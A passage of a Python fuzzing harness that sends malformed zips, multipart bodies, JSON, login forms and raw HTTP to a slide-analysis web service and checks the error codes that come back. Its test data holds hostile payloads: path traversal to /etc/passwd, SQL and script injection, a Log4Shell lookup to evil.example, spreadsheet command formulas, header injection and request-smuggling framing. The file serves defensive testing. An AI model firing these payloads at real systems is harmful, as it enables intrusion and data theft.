                              (zip_of([("a.png", png)], zipfile.ZIP_LZMA), "lzma")):
        start = method_zip.find(b"a.png") + 5
        corrupt = bytearray(method_zip)
        corrupt[start + 4:start + 20] = b"\xaa" * 16
        cases[f"{label}-stream-corrupt"] = (bytes(corrupt), "4xx")
    central = good.find(b"PK\x01\x02")
    for cut in (1, 4, 10, 22, 30, len(good) - central - 1, len(good) - central + 5):
        cases[f"truncated-central-{cut}"] = (good[:max(4, len(good) - cut)], None)
    for _ in range(6):
        corrupt = bytearray(good)
        position = rng.randrange(central, len(good))
        corrupt[position] ^= 0xFF
        cases[f"central-flip-{position}"] = (bytes(corrupt), None)
    for name in ["../../x.png", "../x.png", "a/../../x.png", "..\\..\\x.png", "/etc/x.png", "//server/share/x.png",
                 "C:/x.png", "C:\\x.png", "c:x.png", "x.png\x00.txt", "..", "./../x.png", "....//x.png",
                 "\u2025/x.png", "..\u2215x.png", "a" * 300 + ".png", "dir/" * 60 + "x.png", "\x01\x02\x1b[31m.png",
                 "<script>.png", "%2e%2e/x.png"]:
        # (zipfile cuts a name at NUL when writing: "x.png\x00.txt" arrives as the harmless "x.png".)
        unsafe = name.startswith(("../", "..\\", "/", "C:", "c:", "a/..", "./..")) or name in ("..",)
        cases[f"member-name-{name[:24]!r}"] = (zip_of([(name, png)]), "4xx" if unsafe else None)
    for label, (data, expect) in cases.items():
        yield upload(f"zip-{label}", "zip", [(b"batch.zip", data)], expect=expect, content_type=b"application/zip")


def multipart_oddities(rng: random.Random) -> Iterator[FuzzCase]:
    """Broken, ambiguous and oversized multipart bodies and headers."""
    png = base_images(rng)["png"]
    ok = Part(data=png)
    body = multipart([ok])
    boundary_header = form_headers()

    def case(name: str, headers: tuple[tuple[str, bytes], ...] = boundary_header, data: bytes = body,
             expect: str | None = None, transport: str = "fixed") -> FuzzCase:
        return FuzzCase(f"multipart-{name}", "multipart", headers=headers, body=data, expect=expect, transport=transport)

    yield case("baseline", expect="2xx")
    yield case("baseline-chunked", expect="2xx", transport="chunked")
    yield case("no-boundary", headers=(("Content-Type", b"multipart/form-data"),), expect="4xx")
    yield case("empty-boundary", headers=(("Content-Type", b"multipart/form-data; boundary="),), expect="4xx")
    yield case("wrong-boundary", headers=form_headers(b"somethingelse"), expect="4xx")
    yield case("quoted-boundary", headers=(("Content-Type", b'multipart/form-data; boundary="hvfuzzboundary"'),))
    yield case("boundary-200-chars", headers=form_headers(b"b" * 200), data=multipart([ok], boundary=b"b" * 200))
    yield case("boundary-non-ascii", headers=form_headers(b"\xff\xfe\xfd"), data=multipart([ok], boundary=b"\xff\xfe\xfd"))
    yield case("boundary-in-data", data=multipart([Part(data=png + b"\r\n--hvfuzzboundary-not-really")]))
    yield case("no-content-type", headers=(), expect="4xx")
    for content_type in (b"text/plain", b"application/json", b"image/png", b"multipart/mixed; boundary=hvfuzzboundary",
                         b"application/x-www-form-urlencoded", b"MULTIPART/FORM-DATA; boundary=hvfuzzboundary",
                         b"multipart/form-data; boundary=hvfuzzboundary; charset=utf-7", b"\xff\xfe", b"multipart/form-data;;;;"):
        yield case(f"content-type-{content_type[:30]!r}", headers=(("Content-Type", content_type),))
    yield case("raw-png-body", headers=(("Content-Type", b"image/png"),), data=png, expect="4xx")
    yield case("empty-body", data=b"", expect="4xx")
    yield case("empty-body-chunked", data=b"", expect="4xx", transport="chunked")
    yield case("only-closing-boundary", data=b"--hvfuzzboundary--\r\n", expect="4xx")
    yield case("no-closing-boundary", data=multipart([ok], closing=False))
    yield case("lf-line-endings", data=multipart([ok], newline=b"\n"))
    yield case("preamble-and-epilogue", data=multipart([ok], preamble=b"junk" * 100 + b"\r\n", epilogue=b"tail" * 100))
    yield case("missing-files-field", data=multipart([Part(name=b"sample", filename=None, content_type=None,
                                                           data=b"slide 1")]), expect="4xx")
    yield case("files-as-text-field", data=multipart([Part(filename=None, content_type=None, data=png)]), expect="4xx")
    yield case("field-named-file", data=multipart([Part(name=b"file", data=png)]), expect="4xx")
    yield case("field-name-empty", data=multipart([Part(name=b"", data=png)]), expect="4xx")
    yield case("field-name-missing", data=multipart([Part(name=None, data=png)]))
    yield case("field-name-10kb", data=multipart([Part(name=b"f" * 10_000, data=png)]), expect="4xx")
    yield case("field-name-60kb-text", data=multipart([ok, Part(name=b"n" * 60_000, filename=None, data=b"x")]))
    yield case("unknown-text-field", data=multipart([ok, Part(name=b"admin", filename=None, content_type=None,
                                                              data=b"true")]), expect="4xx")
    yield case("duplicate-sample", data=multipart([ok, Part(name=b"sample", filename=None, content_type=None, data=b"a"),
                                                   Part(name=b"sample", filename=None, content_type=None, data=b"b")]))
    yield case("duplicate-files", data=multipart([ok, ok, ok]), expect="2xx")
    yield case("files-over-max-files", data=multipart([ok] * (LIMITS["max_files"] + 1)), expect="4xx")
    yield case("text-fields-200", data=multipart([ok] + [Part(name=b"sample", filename=None, content_type=None,
                                                               data=b"x")] * 200), expect="4xx")
    yield case("text-field-70kb", data=multipart([ok, Part(name=b"sample", filename=None, content_type=None,
                                                           data=b"s" * 70_000)]), expect="4xx")
    yield case("disposition-missing", data=b"--hvfuzzboundary\r\nContent-Type: image/png\r\n\r\n" + png
               + b"\r\n--hvfuzzboundary--\r\n")
    yield case("disposition-not-form-data", data=multipart([Part(data=png)]).replace(b"form-data", b"attachment", 1))
    yield case("part-headers-200", data=multipart([Part(data=png, extra_headers=b"X-H: v\r\n" * 200)]))
    yield case("part-header-100kb", data=multipart([Part(data=png, extra_headers=b"X-Long: " + b"v" * 100_000 + b"\r\n")]))
    yield case("part-header-folded", data=multipart([Part(data=png, extra_headers=b"X-Fold: a\r\n b\r\n")]))
    yield case("part-header-no-colon", data=multipart([Part(data=png, extra_headers=b"garbage line\r\n")]))
    yield case("filename-star-rfc2231", data=multipart([Part(data=png)]).replace(
        b'filename="a.png"', b"filename*=UTF-8''%e2%82%ac%00%2F..%2Fx.png"))
    yield case("filename-unquoted", data=multipart([Part(data=png)]).replace(b'filename="a.png"', b"filename=a.png"))
    yield case("file-content-type-missing", data=multipart([Part(content_type=None, data=png)]), expect="2xx")
    yield case("file-content-type-lies", data=multipart([Part(content_type=b"text/html", data=png)]), expect="2xx")
    yield case("file-content-type-garbage", data=multipart([Part(content_type=b"\xff\x00;;;", data=png)]))
    filenames = {
        "empty": b"", "non-utf8": b"\xff\xfe\xfa.png", "latin1": "caf\xe9.png".encode("latin-1"),
        "utf8-emoji": "\U0001f9ea cell.png".encode(), "nul": b"a\x00b.png", "traversal": b"../../etc/passwd.png",
        "windows-traversal": b"..\\..\\windows\\win.ini.png", "absolute": b"/etc/shadow.png", "dot-dot": b"..",
        "slash-only": b"/", "control-chars": b"\x1b[31mred\x07.png", "crlf-injection": b"a.png\r\nX-Evil: 1",
        "quote-injection": b'a.png"; name="sample', "long-5000": b"x" * 5000 + b".png",
        "html": b"<img src=x onerror=alert(1)>.png",
        "sql": b"'; DROP TABLE predictions; --.png", "formula": b"=HYPERLINK(\"http://evil\").png",
        "device-name": b"CON.png", "trailing-dot-space": b"a.png. . ", "rtl-override": "\u202egnp.exe".encode(),
    }
    for label, filename in filenames.items():
        yield case(f"filename-{label}", data=multipart([Part(filename=filename, data=png)]))


def sample_names(rng: random.Random) -> Iterator[FuzzCase]:
    """The free-text sample field with control characters, markup, SQL, encodings and lengths."""
    png = base_images(rng)["png"]
    samples: dict[str, tuple[bytes, str]] = {
        "control-chars": (b"slide\x00\x01\x02\x1b[2J\x07\x7f 1", "2xx"),
        "crlf": (b"slide\r\nSet-Cookie: x=1", "2xx"),
        "only-control": (b"\x00\x01\x02\x03", "2xx"),
        "whitespace": (b"   \t  ", "2xx"),
        "sql-drop": (b"'; DROP TABLE analyses; --", "2xx"),
        "sql-or": (b"\" OR 1=1 --", "2xx"),
        "sql-like": (b"%_%\\%", "2xx"),
        "html-script": (b"<script>alert(1)</script>", "2xx"),
        "html-img": (b"<img src=x onerror=alert(document.cookie)>", "2xx"),
        "template": (b"{{7*7}}${7*7}<%= 7*7 %>", "2xx"),
        "log4j": (b"${jndi:ldap://evil.example/a}", "2xx"),
        "formula": (b"=cmd|' /C calc'!A0", "2xx"),
        "rtl-override": ("\u202eevil\u202c".encode(), "2xx"),
        "zero-width": ("a\u200b\u200c\u200d\ufeffb".encode(), "2xx"),
        "emoji-200": (("\U0001f9ea" * 200).encode(), "2xx"),
        "combining-201": (("e" + "\u0301" * 200).encode(), "4xx"),
        "length-200": (b"s" * 200, "2xx"),
        "length-201": (b"s" * 201, "4xx"),
        "length-5000": (b"s" * 5000, "4xx"),
        "length-60000": (b"s" * 60_000, "4xx"),
        "non-utf8": (b"\xff\xfe\xfd slide", "2xx"),
        "lone-surrogate": (b"\xed\xa0\x80", "2xx"),
        "overlong-utf8": (b"\xc0\xaf\xc0\xae", "2xx"),
        "percent-nul": (b"%00%0d%0a", "2xx"),
        "mrn-like": (b"MRN-0012345 Doe, Jane", "2xx"),
    }
    for label, (sample, expect) in samples.items():
        yield upload(f"sample-{label}", "sample-name", [(b"a.png", png)], sample=sample, expect=expect)


def review_bodies(rng: random.Random) -> Iterator[FuzzCase]:
    """Malformed JSON, wrong types, huge arrays and odd ids against the review, sign-off and amend routes.

    ``@VER@`` is the analysis's current version (filled in just before sending), so the well-formed
    reviews really apply; no case signs off, so the analysis stays open for the next one.
    """
    json_header = (("Content-Type", b"application/json"),)

    def review(name: str, data: bytes | object, path: str = REVIEW, expect: str | None = "4xx",
               headers: tuple[tuple[str, bytes], ...] = json_header, method: str = "POST") -> FuzzCase:
        body = data if isinstance(data, bytes) else json.dumps(data).encode()
        body = body.replace(b'"@PID@"', b"@PID@").replace(b'"@VER@"', b"@VER@")  # placeholders stand for numbers
        return FuzzCase(f"review-{name}", "review", method=method, path=path, headers=headers, body=body, expect=expect)

    label = {"prediction_id": "@PID@", "label": "lymphocyte"}
    raw_bodies = {
        "empty": b"", "open-brace": b"{", "unclosed-array": b'{"labels": [}', "null": b"null", "string": b'"x"',
        "number-overflow": b"1e999999", "nan": b'{"labels": NaN}', "infinity": b'{"labels": [], "expected_version": Infinity}',
        "bom": b"\xef\xbb\xbf{\"labels\": []}", "utf16": '{"labels": []}'.encode("utf-16"), "non-utf8": b'{"labels": "\xff"}',
        "trailing-garbage": b'{"labels": []} trailing', "nested-100000": b"[" * 100_000 + b"]" * 100_000,
        "nested-objects-5000": b'{"a":' * 5000 + b"1" + b"}" * 5000, "nul-bytes": b'{"labels"\x00: []}',
        "duplicate-keys": b'{"labels": [], "labels": [{"prediction_id": 1, "label": "x"}], "expected_version": @VER@}',
        "huge-number": b'{"labels": [{"prediction_id": ' + b"9" * 5000 + b', "label": "x"}], "expected_version": 0}',
        "version-huge-number": b'{"labels": [{"prediction_id": @PID@, "label": "x"}], "expected_version": ' + b"9" * 400 + b"}",
    }
    for name, raw in raw_bodies.items():
        yield review(name, raw)
    versioned: dict[str, object] = {
        "empty-object": {}, "array": [], "labels-string": {"labels": "x"}, "labels-object": {"labels": {}},
        "labels-empty": {"labels": []}, "labels-ints": {"labels": [1, 2]}, "labels-null-item": {"labels": [None]},
        "no-expected-version": {"labels": [label]},
        "pid-string": {"labels": [{"prediction_id": "abc", "label": "x"}]},
        "pid-float": {"labels": [{"prediction_id": 1.5, "label": "lymphocyte"}]},
        "pid-bool": {"labels": [{"prediction_id": True, "label": "lymphocyte"}]},  # pydantic's lax mode: True is 1
        "pid-negative": {"labels": [{"prediction_id": -1, "label": "lymphocyte"}]},
        "pid-0": {"labels": [{"prediction_id": 0, "label": "lymphocyte"}]},
        "pid-2^63": {"labels": [{"prediction_id": 2**63, "label": "lymphocyte"}]},
        "pid-2^64": {"labels": [{"prediction_id": 2**64, "label": "lymphocyte"}]},
        "label-int": {"labels": [{"prediction_id": "@PID@", "label": 5}]},
        "label-null": {"labels": [{"prediction_id": "@PID@", "label": None}]},
        "label-empty": {"labels": [{"prediction_id": "@PID@", "label": ""}]},
        "label-unknown": {"labels": [{"prediction_id": "@PID@", "label": "platelet"}]},
        "label-10kb": {"labels": [{"prediction_id": "@PID@", "label": "x" * 10_000}]},
        "label-nul": {"labels": [{"prediction_id": "@PID@", "label": "lymphocyte\x00"}]},
        "label-extra-key": {"labels": [{**label, "admin": True}]},
        "extra-top-key": {"labels": [label], "signed_off": True},
        "reviewer-field": {"labels": [label], "reviewer": "Dr. Chief Hematologist"},
        "reviewer-int": {"labels": [label], "reviewer": 5},
        "items-10001": {"labels": [label] * 10_001},
        "items-5000-unknown-ids": {"labels": [{"prediction_id": 10_000_000 + i, "label": "lymphocyte"} for i in range(5000)]},
    }
    for name, data in versioned.items():
        yield review(name, {**data, "expected_version": "@VER@"} if isinstance(data, dict) and data.get("labels")
                     and name != "no-expected-version" else data, expect=None if name == "pid-bool" else "4xx")
    for name, version in {"string": "one", "null": None, "negative": -1, "stale": 10**6, "2^63": 2**63, "2^64": 2**64,
                          "float": 1e308, "bool": True, "list": [1]}.items():
        yield review(f"expected-version-{name}", {"labels": [label], "expected_version": version},
                     expect=None if name == "bool" else "4xx")  # True is 1, which may be the current version
    good = {"labels": [label], "expected_version": "@VER@"}
    yield review("valid", good, expect="2xx")
    yield review("valid-excluded", {"labels": [{"prediction_id": "@PID@", "label": "excluded"}], "expected_version": "@VER@"},
                 expect="2xx")
    yield review("items-5000-same-id", {"labels": [label] * 5000, "expected_version": "@VER@"}, expect="2xx")
    yield review("text-plain", good, headers=(("Content-Type", b"text/plain"),), expect=None)
    yield review("no-content-type", good, headers=(), expect=None)
    yield review("form-encoded", b"labels=1&expected_version=0",
                 headers=(("Content-Type", b"application/x-www-form-urlencoded"),))
    yield review("multipart", multipart([Part(name=b"labels", filename=None, data=b"[]")]), headers=form_headers())
    yield review("get-method", b"", method="GET")
    yield review("put-method", good, method="PUT")
    ids = {"0": "0", "negative": "-1", "unknown": "999999999", "2^63-1": str(2**63 - 1), "2^63": str(2**63),
           "2^64": str(2**64), "100-digits": "9" * 100, "text": "abc", "float": "1.5", "sql": "1%20OR%201=1",
           "nul": "1%00", "empty": "", "plus": "+1", "spaces": "%201%20", "unicode-digits": "%D9%A1"}
    for label_id, analysis in ids.items():
        # "+1" and " 1 " parse as 1 (and "1" may be the analysis under review): no fixed answer for them.
        yield review(f"id-{label_id}", good, path=f"/api/v1/analyses/{analysis}/review",
                     expect=None if label_id in ("plus", "spaces") else "4xx")
        yield review(f"signoff-id-{label_id}", {"expected_version": 0}, path=f"/api/v1/analyses/{analysis}/signoff")
        yield review(f"amend-id-{label_id}", {**good, "reason": "fuzz"}, path=f"/api/v1/analyses/{analysis}/amend")
    # Sign-off and amendment bodies that must never apply (the versions never match), so the analysis stays open.
    for name, data in {"empty": b"", "object": {}, "version-string": {"expected_version": "x"},
                       "version-negative": {"expected_version": -1}, "version-2^64": {"expected_version": 2**64},
                       "version-stale": {"expected_version": 10**6}, "extra-key": {"expected_version": 10**6, "as": "admin"},
                       "array": [], "nested": b"[" * 50_000}.items():
        yield review(f"signoff-{name}", data, path="/api/v1/analyses/@AID@/signoff")
    for name, data in {"not-signed-off": {**good, "reason": "fix a typo"}, "reason-short": {**good, "reason": "x"},
                       "reason-10kb": {**good, "reason": "r" * 10_000}, "reason-int": {**good, "reason": 5},
                       "no-reason": good, "reason-nul": {**good, "reason": "\x00\x00\x00"}}.items():
        yield review(f"amend-{name}", data, path="/api/v1/analyses/@AID@/amend")


def auth_requests(rng: random.Random) -> Iterator[FuzzCase]:
    """The token endpoint, the login form and the logout route with malformed forms and credentials.

    No case knows the harness's password, so none of them logs in; they must all be refused cleanly.
    """
    form = (("Content-Type", b"application/x-www-form-urlencoded"),)
    token = "/api/v1/auth/token"
    bodies: dict[str, tuple[bytes, tuple[tuple[str, bytes], ...], str | None]] = {
        "empty": (b"", form, "4xx"),
        "no-password": (b"username=fuzz", form, "4xx"),
        "no-username": (b"password=x", form, "4xx"),
        "wrong-password": (b"username=fuzz&password=not-the-password", form, "4xx"),
        "unknown-user": (b"username=nobody&password=x", form, "4xx"),
        "username-10kb": (b"username=" + b"u" * 10_000 + b"&password=x", form, "4xx"),
        "password-100kb": (b"username=fuzz&password=" + b"p" * 100_000, form, "4xx"),
        "username-sql": (b"username=%27%20OR%201%3D1--&password=%27%20OR%201%3D1--", form, "4xx"),
        "username-nul": (b"username=fuzz%00&password=x", form, "4xx"),
        "non-utf8": (b"username=\xff\xfe&password=\xff", form, "4xx"),
        "percent-non-utf8": (b"username=%ff%fe&password=%ff", form, "4xx"),
        "grant-type-bogus": (b"grant_type=client_credentials&username=fuzz&password=x", form, "4xx"),
        "duplicate-fields": (b"username=nobody&username=fuzz&password=x&password=y", form, "4xx"),
        "fields-1000": (b"&".join(b"f%d=v" % i for i in range(1000)) + b"&username=a&password=b", form, "4xx"),
        "json-body": (b'{"username": "fuzz", "password": "x"}', (("Content-Type", b"application/json"),), "4xx"),
        "multipart-with-file": (multipart([Part(name=b"username", filename=b"u.txt", data=b"fuzz"),
                                           Part(name=b"password", filename=None, content_type=None, data=b"x")]),
                                form_headers(), "4xx"),
        "no-content-type": (b"username=fuzz&password=x", (), "4xx"),
    }
    for name, (body, headers, expect) in bodies.items():
        yield FuzzCase(f"auth-token-{name}", "auth", path=token, headers=headers, body=body, expect=expect)
    yield FuzzCase("auth-token-get", "auth", "GET", token, expect="4xx")
    yield FuzzCase("auth-me", "auth", "GET", "/api/v1/auth/me", expect="2xx")
    for name, query in {"plain": "", "next-external": "?next=//evil.example/", "next-scheme": "?next=javascript:alert(1)",
                        "next-nul": "?next=%00", "next-long": "?next=/" + "a" * 5000, "next-crlf": "?next=/%0d%0aX:1"}.items():
        yield FuzzCase(f"login-page-{name}", "auth", "GET", "/login" + query, api=False)
    for name, body in {"empty": b"", "garbage": b"\xff\x00\x01", "no-csrf": b"username=fuzz&password=x",
                       "bad-csrf": b"username=fuzz&password=x&csrf_token=forged",
                       "fields-100": b"&".join(b"f%d=v" % i for i in range(100))}.items():
        yield FuzzCase(f"login-post-{name}", "auth", path="/login", headers=form, body=body, api=False, expect="4xx")
    yield FuzzCase("logout-no-session", "auth", path="/logout", api=False)
    yield FuzzCase("logout-bad-cookie", "auth", path="/logout", headers=(("Cookie", b"hv_session=forged; hv_csrf=x"),),
                   api=False)
    for name, value in {"empty": b"Bearer", "no-scheme": b"token", "basic": b"Basic Zm9vOmJhcg==",
                        "long": b"Bearer " + b"a" * 8000, "non-ascii": b"Bearer \xff\xfe", "two-spaces": b"Bearer  x"}.items():
        yield FuzzCase(f"auth-header-{name}", "auth", "GET", ANALYSES, headers=(("Authorization", value),), expect=None)


def query_strings(rng: random.Random) -> Iterator[FuzzCase]:
    """Odd query strings and ids on the read routes."""
    queries = [
        "page=-1", "page=0", "page=1000001", "page=" + "9" * 40, "page=abc", "page=1e3", "page=", "page=NaN",
        "page=%00", "page=1&page=2", "page_size=0", "page_size=-5", "page_size=201", "page_size=1000000000",
        "page_size=1.5", "limit=-1", "limit=99999999999", "offset=-1", "status=bogus", "status=", "status=REVIEWED",
        "status=needs_review", "status=reviewed&status=partial", "q=" + "q" * 201, "q=" + "q" * 5000, "q=%25",
        "q=_", "q=%27%20OR%201=1--", "q=%22", "q=%5C", "q=%ff%fe", "q=%00", "q=%0d%0aX:1", "q=<script>",
        "q=%E2%80%AE", "unknown=1", "&&&&", "=", "q", "page=1;page_size=2", "%ff=%ff", "a=" + "b" * 7000,
    ]
    for i, query in enumerate(queries):
        expect = "2xx" if query in ("status=needs_review", "q=%25", "q=_", "unknown=1", "&&&&", "=", "q") else None
        yield FuzzCase(f"query-analyses-{i}-{query[:24]}", "query", "GET", f"{ANALYSES}?{query}", expect=expect)
    paths = [
        f"{ANALYSES}/0", f"{ANALYSES}/-1", f"{ANALYSES}/{2**63}", f"{ANALYSES}/{2**64}", f"{ANALYSES}/{'9' * 100}",
        f"{ANALYSES}/abc", f"{ANALYSES}/1.0", f"{ANALYSES}/%00", f"{ANALYSES}/@AID@/export.csv?kind=bogus",
        f"{ANALYSES}/@AID@/export.csv?kind=differential", f"{ANALYSES}/{2**64}/export.csv", f"{ANALYSES}/@AID@/audit",
        f"{ANALYSES}/{2**64}/audit", f"{ANALYSES}/-1/audit", f"{ANALYSES}/abc/audit",
        "/api/v1/predictions/-1/image", f"/api/v1/predictions/{2**64}/image", f"/api/v1/predictions/{2**63}/heatmap.png",
        "/api/v1/predictions/@PID@/heatmap.png?label=bogus", "/api/v1/predictions/@PID@/heatmap.png?label=%00",
        "/api/v1/predictions/abc/image", "/api/v1/nothing", "/api/v2/predict", "/static/../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/etc/passwd", "/static/" + "a" * 3000, "/docs/../api/v1/analyses",
    ]
    for i, path in enumerate(paths):
        yield FuzzCase(f"query-path-{i}-{path[-28:]}", "query", "GET", path)
    for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE"):
        yield FuzzCase(f"method-{method}-predict", "query", method, PREDICT, expect=None if method == "HEAD" else "4xx")


def http_oddities(rng: random.Random) -> Iterator[FuzzCase]:
    """Requests that are barely HTTP, sent on a raw socket: broken framing, lying lengths, disconnects."""
    png = base_images(rng)["png"]
    body = multipart([Part(data=png)])
    form = b"Content-Type: multipart/form-data; boundary=hvfuzzboundary\r\n"

    def raw(name: str, data: bytes, api: bool = False, half_close: bool = False, expect: str | None = None) -> FuzzCase:
        return FuzzCase(f"http-{name}", "http", body=data, transport="raw", api=api, half_close=half_close, expect=expect)

    post = b"POST " + PREDICT.encode() + b" HTTP/1.1\r\n"
    yield raw("baseline", post + form + b"Content-Length: %d\r\n\r\n" % len(body) + body, api=True, expect="2xx")
    yield raw("garbage-line", b"GARBAGE\r\n\r\n")
    yield raw("binary-line", bytes(rng.randrange(256) for _ in range(200)) + b"\r\n\r\n")
    yield raw("http-9.9", b"GET /health HTTP/9.9\r\n\r\n")
    yield raw("http-1.0-no-host", b"GET /health HTTP/1.0\r\n\r\n", expect="2xx")
    yield raw("http-0.9", b"GET /health\r\n\r\n")
    yield raw("http2-preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield raw("tls-client-hello", b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\x00" * 160)
    yield raw("lowercase-method", b"get /health HTTP/1.1\r\n\r\n")
    yield raw("unknown-method", b"FOO /health HTTP/1.1\r\n\r\n", api=True)
    yield raw("long-method", b"X" * 5000 + b" /health HTTP/1.1\r\n\r\n")
    yield raw("connect", b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
    yield raw("absolute-uri", b"GET http://evil.example/health HTTP/1.1\r\n\r\n")
    yield raw("asterisk-uri", b"OPTIONS * HTTP/1.1\r\n\r\n")
    yield raw("uri-10kb", b"GET /api/v1/analyses?q=" + b"a" * 10_000 + b" HTTP/1.1\r\n\r\n")
    yield raw("uri-100kb", b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n")
    yield raw("uri-raw-nonascii", b"GET /api/v1/analyses?q=\xff\xfe HTTP/1.1\r\n\r\n")
    yield raw("uri-raw-dotdot", b"GET /static/../../../../etc/passwd HTTP/1.1\r\n\r\n")
    yield raw("uri-backslash", b"GET /static/..\\..\\etc\\passwd HTTP/1.1\r\n\r\n")
    yield raw("header-no-colon", b"GET /health HTTP/1.1\r\nthis is not a header\r\n\r\n")
    yield raw("header-nul", b"GET /health HTTP/1.1\r\nX-A: a\x00b\r\n\r\n")
    yield raw("header-name-space", b"GET /health HTTP/1.1\r\nX A: b\r\n\r\n")
    yield raw("header-obs-fold", b"GET /health HTTP/1.1\r\nX-A: a\r\n b\r\n\r\n")
    yield raw("header-value-20kb", b"GET /health HTTP/1.1\r\nX-A: " + b"v" * 20_000 + b"\r\n\r\n")
    yield raw("headers-500", b"GET /health HTTP/1.1\r\n" + b"".join(b"X-%d: v\r\n" % i for i in range(500)) + b"\r\n")
    yield raw("bare-lf", b"GET /health HTTP/1.1\nX-A: b\n\n")
    yield raw("bare-cr", b"GET /health HTTP/1.1\rX-A: b\r\r")
    yield raw("expect-100", post + form + b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(body) + body,
              api=True)
    for label, value in {"abc": b"abc", "negative": b"-1", "plus": b"+5", "hex": b"0x10", "spaces": b" 12 ",
                         "huge": b"9" * 30, "200mb": str(200 * 1024 * 1024).encode()}.items():
        # Only a well-formed length reaches the app (the 200 MB one: 413 JSON); h11 answers the rest in plain text.
        yield raw(f"content-length-{label}", post + form + b"Content-Length: " + value + b"\r\n\r\n" + body[:64],
                  api=label == "200mb", half_close=True)
    yield raw("content-length-twice-differ", post + form + b"Content-Length: %d\r\nContent-Length: 5\r\n\r\n" % len(body)
              + body)
    yield raw("content-length-and-chunked", post + form + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
              + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n")
    yield raw("transfer-encoding-gzip", post + form + b"Transfer-Encoding: gzip\r\n\r\n" + body)
    yield raw("transfer-encoding-chunked-twice", post + form + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n")
    yield raw("chunk-size-garbage", post + form + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + body + b"\r\n0\r\n\r\n")
    yield raw("chunk-size-huge", post + form + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + body[:100],
              half_close=True)
    yield raw("chunk-extension-long", post + form + b"Transfer-Encoding: chunked\r\n\r\n%x;" % len(body) + b"e" * 20_000
              + b"\r\n" + body + b"\r\n0\r\n\r\n")
    yield raw("chunked-chunks-of-1", post + form + b"Transfer-Encoding: chunked\r\n\r\n"
              + b"".join(b"1\r\n" + body[i:i + 1] + b"\r\n" for i in range(len(body))) + b"0\r\n\r\n", api=True, expect="2xx")
    # The client lies about the length or gives up mid-request: the server must notice, log no
    # traceback and carry on.
    yield raw("content-length-short", post + form + b"Content-Length: %d\r\n\r\n" % (len(body) // 2) + body, api=True)
    yield raw("content-length-long-then-eof", post + form + b"Content-Length: %d\r\n\r\n" % (len(body) * 2) + body,
              api=True, half_close=True)
    for fraction in (0, 0.1, 0.5, 0.9):
        cut = int(len(body) * fraction)
        yield raw(f"disconnect-after-{int(fraction * 100)}pct", post + form + b"Content-Length: %d\r\n\r\n" % len(body)
                  + body[:cut], api=True, half_close=True)
    yield raw("disconnect-mid-headers", post + form[:20], half_close=True)
    yield raw("disconnect-chunked", post + form + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(body) + body[:500],
              api=True, half_close=True)
    yield raw("disconnect-review", b"POST /api/v1/analyses/@AID@/review HTTP/1.1\r\nContent-Type: application/json\r\n"
              b"Content-Length: 500\r\n\r\n{\"labels\": [", api=True, half_close=True)
    yield raw("pipelined-two", b"GET /health HTTP/1.1\r\n\r\nGET /health HTTP/1.1\r\nConnection: close\r\n\r\n")


def over_limits(rng: random.Random) -> Iterator[FuzzCase]:
    """A few requests just over the configured size limits, sent with a fixed length and chunked."""
    noise = np.random.default_rng(rng.randint(0, 2**31)).integers(0, 256, (400, 500, 3), dtype=np.uint8)
    big_png = _encode(Image.fromarray(noise), "png")  # ~600 kB: over the per-file limit
    over_request = multipart([Part(data=big_png), Part(filename=b"b.png", data=big_png)])
    assert len(big_png) > LIMITS["max_file_bytes"] and len(over_request) > LIMITS["max_request_bytes"]
    file_over = multipart([Part(data=big_png)])
    for transport in ("fixed", "chunked"):
        yield FuzzCase(f"limit-file-{transport}", "over-limit", headers=form_headers(), body=file_over,
                       transport=transport, expect="4xx")
        yield FuzzCase(f"limit-request-{transport}", "over-limit", headers=form_headers(), body=over_request,
                       transport=transport, expect="4xx")
    yield FuzzCase("limit-review-body", "over-limit", path=REVIEW, headers=(("Content-Type", b"application/json"),),
                   body=b'{"labels": [' + b" " * LIMITS["max_request_bytes"] + b"]}", expect="4xx")


FAMILIES: tuple[Callable[[random.Random], Iterator[FuzzCase]], ...] = (
    truncated_images, bit_flipped_headers, polyglots, decompression_bombs, png_chunk_oddities, image_modes,
    hostile_zips, multipart_oddities, sample_names, review_bodies, auth_requests, query_strings, http_oddities, over_limits,
)


# ---------------------------------------------------------------------------------------------
# Random mutants: fill the corpus past the structured cases
# ---------------------------------------------------------------------------------------------

def _mutate(rng: random.Random, data: bytes, donors: list[bytes]) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 6)):
        if not out:
            out += bytes([rng.randrange(256)])
        operation = rng.randrange(7)
        position = rng.randrange(len(out))
        if operation == 0:
            out[position] ^= 1 << rng.randrange(8)
        elif operation == 1:
            out[position] = rng.choice((0x00, 0xFF, 0x7F, 0x80))
        elif operation == 2:
            out[position:position] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 32)))
        elif operation == 3:
            del out[position:position + rng.randint(1, 64)]
        elif operation == 4:
            end = min(len(out), position + rng.randint(1, 256))
            out[position:position] = out[position:end] * rng.randint(1, 8)
        elif operation == 5:
            donor = rng.choice(donors)
            start = rng.randrange(len(donor))
            out[position:position] = donor[start:start + rng.randint(1, 128)]
        else:
            out[position:position + 4] = struct.pack(">I", rng.choice((0, 1, 0x7FFFFFFF, 0xFFFFFFFF, rng.randrange(2**32))))
    return bytes(out)


def mutants(rng: random.Random, count: int) -> Iterator[FuzzCase]:
    """``count`` random mutations of valid images, zips and multipart bodies."""
    images = base_images(rng)
    donors = list(images.values())
    good_zip = zip_of([("a.png", images["png"]), ("b.gif", images["gif"])])
    for i in range(count):
        target = rng.choice((*FORMATS, "zip", "multipart"))
        if target == "multipart":
            body = _mutate(rng, multipart([Part(data=images["png"]),
                                           Part(name=b"sample", filename=None, content_type=None, data=b"s1")]), donors)
